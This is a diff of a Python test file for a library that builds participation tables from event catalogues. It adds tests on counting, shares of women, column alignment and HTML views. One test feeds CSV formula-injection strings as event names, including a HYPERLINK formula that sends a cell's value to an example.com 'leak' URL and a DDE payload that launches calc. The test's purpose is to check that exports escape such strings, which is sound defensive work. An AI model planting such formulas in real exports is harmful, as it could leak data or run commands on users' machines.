@@ -60,6 +60,7 @@ from gloact_model.reports import (
     programmes_and_funders,
     tables,
 )
+from gloact_model.reports._table import display_width
 from gloact_model.testing import catalogues, consistent_catalogues, events
 from tests.conftest import MADRID
 
@@ -454,10 +455,20 @@ def test_without_its_own_count_an_event_had_at_least_its_largest_part() -> None:
         event("big-planned-side", parent_id="a", status=PLANNED, participation=counts(99)),
     )
     row = by_event(catalogue)["a"]
-    # Never 25 + 28 + 26: the same people may attend every part.
-    assert (row.total, row.total_qualifier, row.women, row.men) == (28, LOWER_BOUND, None, None)
-    assert row.counted_at == "a/s2"
+    # Never 25 + 28 + 26: the same people may attend every part. Column by
+    # column, the event had at least as many as its largest part counted.
+    assert (row.total, row.women, row.men) == (28, 13, 15)
+    assert {row.total_qualifier, row.women_qualifier, row.men_qualifier} == {LOWER_BOUND}
+    assert row.counted_at == "a/s2, side, a/s1"
     assert row.share_women is None
+
+
+def test_a_part_counted_by_sex_only_still_says_how_many_came_at_least() -> None:
+    by_sex_only = session("s1", counts(None, 6, 5))
+    catalogue = of(event("a", sessions=(by_sex_only, session("s2", counts(10)))))
+    row = by_event(catalogue)["a"]
+    assert (row.total, row.women, row.men) == (10, 6, 5)  # not "unknown" people
+    assert row.counted_at == "a/s2, a/s1"
 
 
 def test_a_part_counted_approximately_stays_approximate() -> None:
@@ -482,13 +493,30 @@ def test_sub_events_count_through_their_own_parts_and_only_within_their_top_even
     assert rows[None].total == 15
 
 
-def test_only_held_top_events_reach_people() -> None:
+def test_only_held_events_reach_people() -> None:
     catalogue = of(
         event("planned", status=PLANNED, participation=counts(100)),
         event("cancelled", status=CANCELLED, participation=counts(100)),
-        event("held-within-planned", parent_id="planned", participation=counts(100)),
     )
     assert participants_by_sex(catalogue).rows == ()
+
+
+def test_a_held_side_event_of_an_event_that_was_not_held_is_a_row_of_its_own() -> None:
+    catalogue = of(
+        event("conference", status=CANCELLED, participation=counts(300)),
+        event("side-meeting", parent_id="conference", participation=counts(40, 25, 15)),
+        event("its-session", parent_id="side-meeting", participation=counts(12)),
+        event("launch", status=PLANNED),
+        event("press-briefing", parent_id="launch", sessions=(session("s", counts(9)),)),
+    )
+    rows = by_event(catalogue)
+    assert list(rows) == ["side-meeting", "press-briefing", None]  # its people were reached
+    assert (rows["side-meeting"].total, rows["side-meeting"].share_women) == (40, 25 / 40)
+    assert (rows["press-briefing"].total, rows["press-briefing"].counted_at) == (
+        9,
+        "press-briefing/s",
+    )
+    assert (rows[None].total, rows[None].total_qualifier) == (49, LOWER_BOUND)
 
 
 def test_events_whose_parents_run_in_a_circle_still_count_once() -> None:
@@ -522,7 +550,7 @@ def test_the_last_row_says_at_least_where_an_event_was_not_counted() -> None:
     total = by_event(catalogue)[None]
     assert (total.total, total.total_qualifier) == (40, LOWER_BOUND)
     assert (total.women, total.women_qualifier) == (10, LOWER_BOUND)
-    # The share is of the events that counted both women and men exactly.
+    # Only "a" counted anyone by sex, exactly: the share is of the sums shown.
     assert total.share_women == 10 / 30
     assert "at least 40" in participants_by_sex(catalogue).to_text()
 
@@ -537,12 +565,29 @@ def test_the_last_row_never_adds_an_approximate_count_to_an_exact_one_silently()
     assert (total.total, total.total_qualifier) == (70, APPROXIMATE)
     assert (total.women, total.women_qualifier) == (35, APPROXIMATE)
     assert (total.men, total.men_qualifier) == (40, APPROXIMATE)
-    assert total.share_women == 10 / 30  # only the exact event
+    # A share of the exact event alone (33%) beside about 35 women and about 40
+    # men (47%) would be read as the share of those: no share is given.
+    assert total.share_women is None
     text = participants_by_sex(catalogue).to_text()
     assert "about 70" in text
     assert "at least 5" in text
     assert "about 35" in text
-    assert "33%" in text
+    assert text.splitlines()[-1].endswith("unknown")
+
+
+@pytest.mark.parametrize(
+    "other",
+    [
+        counts(10, 5, None),  # women counted, men not: the sums are of different events
+        counts(10, None, 5),
+        counts(40, 20, 20, APPROXIMATE),
+        counts(40, 20, 20, LOWER_BOUND),
+    ],
+)
+def test_the_last_row_gives_a_share_only_of_the_sums_it_shows(other: Participation) -> None:
+    catalogue = of(event("a", participation=counts(30, 10, 20)), event("b", participation=other))
+    assert by_event(catalogue)["a"].share_women == 1 / 3
+    assert by_event(catalogue)[None].share_women is None
 
 
 def test_the_last_row_of_events_without_counts_is_unknown() -> None:
@@ -621,8 +666,10 @@ def test_an_empty_catalogue_gives_tables_without_rows_that_still_show_their_head
     assert text[-1] == "(no rows)"
     assert len(text) == 4
     assert text[1].split() == " ".join(c.heading for c in table.row_type._text_columns).split()
-    assert "<th>" in table._repr_html_()
+    assert "<th " in table._repr_html_()
     assert "(no rows)" in table._repr_html_()
+    assert len(table) == 0
+    assert not table
     frame = table.to_dataframe()
     assert list(frame.columns) == list(table.columns)
     assert len(frame) == 0
@@ -647,13 +694,14 @@ def test_every_event_counts_once_by_kind_and_by_country_and_year(catalogue: Cata
 
 @given(any_catalogue)
 def test_one_participants_row_per_held_top_event_then_their_sum(catalogue: Catalogue) -> None:
-    ids = {e.id for e in catalogue.events}
+    held = {e.id: e.status is HELD for e in reversed(catalogue.events)}  # the first of an id
     rows = participants_by_sex(catalogue).rows
     if catalogue.validate().ok:  # parents resolve and never run in a circle
+        # A held event whose parent is missing or was not held counts its own people.
         tops = [
             e.id
             for e in catalogue.events
-            if e.status is HELD and (e.parent_id is None or e.parent_id not in ids)
+            if e.status is HELD and (e.parent_id is None or not held.get(e.parent_id, False))
         ]
         assert [r.event_id for r in rows[:-1]] == tops
     if not rows:
@@ -674,6 +722,19 @@ def test_one_participants_row_per_held_top_event_then_their_sum(catalogue: Catal
             assert 0 <= row.share_women <= 1
 
 
+@given(any_catalogue)
+def test_a_share_of_women_is_always_that_of_the_counts_beside_it(catalogue: Catalogue) -> None:
+    for row in participants_by_sex(catalogue):
+        if row.share_women is not None:
+            assert row.women is not None
+            assert row.men is not None
+            assert row.share_women == row.women / (row.women + row.men)
+            # Never from approximate counts; in the last row, a sum may be "at least"
+            # only because some events counted nobody by sex.
+            allowed = {EXACT} if row.event_id is not None else {EXACT, LOWER_BOUND}
+            assert {row.women_qualifier, row.men_qualifier} <= allowed
+
+
 def counts_anyone(participation: Participation | None) -> bool:
     return participation is not None and any(
         n is not None for n in (participation.total, participation.women, participation.men)
@@ -686,6 +747,7 @@ def test_a_counted_event_is_not_changed_by_counts_of_its_parts(
 ) -> None:
     ids = [e.id for e in catalogue.events]
     counted = [e for e in catalogue.events if counts_anyone(e.participation)]
+    counted = [e for e in counted if e.status is HELD]  # a part of a planned event is not
     counted = [e for e in counted if ids.count(e.id) == 1]
     if not counted:
         return
@@ -714,7 +776,7 @@ def parse_cell(cell: str, kind: type) -> Plain:
 @given(any_catalogue)
 def test_csv_reads_back_to_the_records(catalogue: Catalogue) -> None:
     for table in tables(catalogue):
-        header, *body = csv.reader(io.StringIO(table.to_csv(), newline=""))
+        header, *body = csv.reader(io.StringIO(table.to_csv(escape_formulas=False), newline=""))
         assert tuple(header) == table.columns
         columns = table.row_type._columns
         parsed = [
@@ -726,6 +788,39 @@ def test_csv_reads_back_to_the_records(catalogue: Catalogue) -> None:
             assert all(
                 value is None or type(value) in (str, int, float) for value in record.values()
             )
+        if not any(
+            isinstance(v, str) and v.startswith(FORMULA) for r in parsed for v in r.values()
+        ):
+            assert table.to_csv() == table.to_csv(escape_formulas=False)
+
+
+FORMULA = ("=", "+", "-", "@")
+
+
+@pytest.mark.parametrize(
+    "name",
+    [
+        '=HYPERLINK("http://example.com/?leak="&A1,"Click")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1,2)",
+    ],
+)
+def test_csv_writes_text_that_a_spreadsheet_would_run_as_text(name: str) -> None:
+    catalogue = of(
+        attrs.evolve(event("a", participation=counts(5)), name=name),
+        Programme(id="p", name=name, acronym=name[:10]),
+    )
+    for table in (participants_by_sex(catalogue), programmes_and_funders(catalogue)):
+        rows = list(csv.reader(io.StringIO(table.to_csv(), newline="")))[1:]
+        cells = [cell for row in rows for cell in row]
+        assert "'" + name in cells
+        assert not any(cell.startswith(FORMULA) for cell in cells)
+        plain = list(csv.reader(io.StringIO(table.to_csv(escape_formulas=False), newline="")))
+        assert name in [cell for row in plain for cell in row]
+    # Numbers are never touched: they are not text, and none is negative.
+    first = next(csv.DictReader(io.StringIO(participants_by_sex(catalogue).to_csv())))
+    assert first["total"] == "5"
 
 
 @given(any_catalogue)
@@ -742,13 +837,51 @@ def test_text_shows_each_row_on_its_line_in_aligned_columns(catalogue: Catalogue
         for line, cells in shown:
             start = 0
             for whole, width, column in zip(cells, widths, columns, strict=True):
-                cell = whole if len(whole) <= 48 else whole[:47] + "…"
-                assert len(cell) <= width
+                cell = whole if display_width(whole) <= 48 else shortened(whole)
+                assert display_width(cell) <= width
                 # Each cell sits in its column: numbers at its right edge, text at its left.
-                at = start + width - len(cell) if column.numeric else start
-                assert line[at : at + len(cell)] == cell, (line, cell)
+                at = start + width - display_width(cell) if column.numeric else start
+                before, rest = cut(line, at)
+                assert display_width(before) == at, (line, cell)
+                assert rest.startswith(cell), (line, cell)
                 start += width + 2
             assert line == line.rstrip()
+
+
+def cut(line: str, columns: int) -> tuple[str, str]:
+    """`line` split where `columns` columns of a terminal have been filled."""
+    for at in range(len(line) + 1):
+        if display_width(line[:at]) >= columns:
+            return line[:at], line[at:]
+    return line, ""
+
+
+def shortened(text: str) -> str:
+    kept = ""
+    for char in text:
+        if display_width(kept + char) > 47:
+            break
+        kept += char
+    return kept + "…"
+
+
+def test_text_columns_line_up_in_any_script() -> None:
+    catalogue = of(
+        # Each of these characters takes two columns; the accent combines, taking none.
+        attrs.evolve(event("tokyo", participation=counts(3)), name="東京でのワークショップ"),
+        attrs.evolve(event("bogota", participation=counts(12)), name="Taller en Bogota\u0301"),
+        attrs.evolve(event("plain", participation=counts(100)), name="A workshop"),
+    )
+    _, _heading, rule, *body = participants_by_sex(catalogue).to_text().splitlines()
+    assert rule.startswith("-" * 22 + "  ")
+    ends = {
+        display_width(line[: line.index(n) + len(n)])
+        for line, n in zip(body, ["3", "12", "100", "115"], strict=True)
+    }
+    assert len(ends) == 1  # the counts end in one column
+    wide = attrs.evolve(event("x"), name="東" * 30)  # 60 columns: shortened to 48
+    shown = participants_by_sex(of(wide)).to_text().splitlines()[3]
+    assert shown.startswith("東" * 23 + "…  ")
 
 
 class _Page(HTMLParser):
@@ -874,3 +1007,50 @@ def test_a_table_is_generic_in_its_row_type() -> None:
     (row,) = table
     assert row.kind is EventKind.WORKSHOP
     assert Table[KindRow] is not Table  # subscriptable at run time, for annotations
+
+
+# Views of big tables, and types -------------------------------------------------------------
+
+
+def test_a_big_table_shows_its_first_rows_and_its_sum_in_a_notebook() -> None:
+    many = tuple(event(f"w{n}", participation=counts(10, 4, 6)) for n in range(10_000))
+    table = participants_by_sex(Catalogue(events=many))
+    assert len(table) == 10_001
+    markup = table._repr_html_()
+    shown = _Page(markup).texts
+    assert len(markup) < 20_000  # not 10,001 rows
+    assert markup.count("<tr>") == 1 + 49 + 1 + 1  # headings, first rows, the line, the sum
+    assert "W48" in shown
+    assert "W49" not in shown
+    assert "… and 9,951 more rows (to_csv() and to_dataframe() have them all)" in shown
+    assert shown[-5:] == ["All held events", "100,000", "40,000", "60,000", "40%"]
+    assert table.to_text().count("\n") == 3 + 10_001  # the text and CSV keep every row
+    small = participants_by_sex(Catalogue(events=many[:49]))
+    assert "more rows" not in small._repr_html_()
+    assert small._repr_html_().count("<tr>") == 1 + 50
+
+
+def test_html_aligns_numbers_to_the_right_as_the_text_does(madrid: Catalogue) -> None:
+    markup = events_by_kind(madrid)._repr_html_()
+    assert '<th style="text-align:left">kind</th>' in markup
+    assert '<th style="text-align:right">held</th>' in markup
+    assert '<td style="text-align:left">training course</td>' in markup
+    assert '<td style="text-align:right">1</td>' in markup
+
+
+def test_every_table_is_a_table_of_rows_for_mypy(tmp_path: Path) -> None:
+    mypy = pytest.importorskip("mypy.api")
+    code = tmp_path / "use.py"
+    code.write_text(
+        "from gloact_model import Catalogue\n"
+        "from gloact_model.reports import TABLES, KindRow, Row, Table, events_by_kind, tables\n"
+        "catalogue = Catalogue()\n"
+        "kinds: Table[KindRow] = events_by_kind(catalogue)\n"
+        "every: tuple[Table[Row], ...] = (kinds, *tables(catalogue))\n"
+        "one: Table[Row] = TABLES['events-by-kind'](catalogue)\n"
+        "count: int = len(kinds) + sum(len(table) for table in every)\n"
+        "first: KindRow = kinds.rows[0]\n"
+        "row: Row = one.rows[0]\n"
+    )
+    out, err, status = mypy.run(["--strict", "--no-incremental", str(code)])
+    assert status == 0, out + err
